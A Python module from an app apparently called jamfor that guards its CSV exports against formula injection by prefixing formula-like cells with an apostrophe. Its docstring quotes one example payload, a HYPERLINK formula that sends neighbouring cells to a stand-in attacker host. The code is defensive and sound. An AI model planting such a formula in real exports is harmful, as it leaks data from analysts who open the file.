"""Every CSV jamfor writes, with no cell a spreadsheet would run as a formula.

Excel, LibreOffice and Google Sheets treat a cell starting with ``=``, ``+``,
``-`` or ``@`` (and, after a tab or carriage return, sometimes those too) as
a formula: a comment ``=HYPERLINK("http://evil.example/?d="&E3;"…")`` in a
review export would send the neighbouring cells away when the analyst opens
it. As OWASP recommends, such a cell is written with a leading apostrophe,
which the spreadsheet shows as text. A plain number (``-12,5``) cannot run
and is left as it is, so files jamfor reads back keep their values.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any, Protocol

_FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
_PLAIN_NUMBER = re.compile(r"^[+-]?[0-9]+(?:[.,][0-9]+)?(?:[eE][+-]?[0-9]+)?$")


def neutralise(value: object) -> str:
    """A cell as text that no spreadsheet runs: formula-like text gets a leading apostrophe."""
    text = "" if value is None else str(value)
    if text.startswith(_FORMULA_START) and not _PLAIN_NUMBER.match(text):
        return "'" + text
    return text


class _Writable(Protocol):
    def write(self, s: str, /) -> Any: ...


class SafeWriter:
    """``csv.writer`` whose every cell has passed :func:`neutralise`."""

    def __init__(self, fh: _Writable, **fmtparams: Any) -> None:
        self._writer = csv.writer(fh, **fmtparams)

    def writerow(self, row: Iterable[object]) -> None:
        self._writer.writerow([neutralise(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(fh: _Writable, **fmtparams: Any) -> SafeWriter:
    """The writer for every CSV the app and the command write."""
    return SafeWriter(fh, **fmtparams)
